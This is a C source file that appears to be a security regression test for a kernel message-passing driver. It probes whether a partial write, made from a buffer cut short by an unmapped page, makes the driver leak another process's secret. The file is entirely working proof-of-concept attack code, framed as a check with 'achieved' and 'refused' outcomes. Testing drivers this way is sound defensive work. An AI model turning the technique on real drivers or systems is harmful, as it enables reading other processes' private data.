// SPDX-License-Identifier: GPL-2.0-only
/*
 * A write of which only the first byte can be read. The driver does not ask how much came, and
 * sends the rest of its buffer: what another process has read just before.
 */
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#include "attack.h"

static long read_secret(struct victim_state *state, int command)
{
	char bytes[SECRET_SIZE];
	__u32 parcel;
	int result;

	(void)command;
	result = parcel_send(state->file, state->box, state->secret, SECRET_SIZE, NULL, 0);
	if (result < 0)
		return result;
	parcel = parcel_take(state->file, state->box);
	result = parcel_read(state->file, parcel, 0, bytes, SECRET_SIZE);
	return result < 0 ? result : handle_close(state->file, parcel);
}

int main(int argc, char **argv)
{
	const long page = sysconf(_SC_PAGESIZE);
	char bytes[SECRET_SIZE] = "mine", secret[SECRET_SIZE];
	struct victim victim;
	int file, result;
	char *memory;
	__u32 box;

	attack_begin(argc, argv);
	victim_start(&victim, read_secret);
	victim_secret(&victim, secret);
	file = device_open();
	box = private_box(file);
	must("select", parcel_select(file, box, 0));
	if (write(file, bytes, sizeof(bytes)) != sizeof(bytes))
		could_not("write: %s", error_name(errno));
	must("receive", parcel_receive(file, box, bytes, sizeof(bytes), PARCEL_DONTWAIT));

	memory = mmap(NULL, 2 * page, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	if (memory == MAP_FAILED || munmap(memory + page, page))
		could_not("mmap: %s", error_name(errno));
	memory[page - 1] = secret[0];

	must("let the victim read", victim_do(&victim, 0));
	result = write(file, memory + page - 1, SECRET_SIZE);
	if (result < 0)
		refused("%s", error_name(errno));
	must("receive", parcel_receive(file, box, bytes, sizeof(bytes), PARCEL_DONTWAIT));
	if (!memcmp(bytes, secret, SECRET_SIZE))
		achieved("leaks", "wrote 1 byte, and sent what another process had read: \"%s\"",
			 bytes);
	could_not("wrote 1 byte of %d, and nothing came with it", result);
}
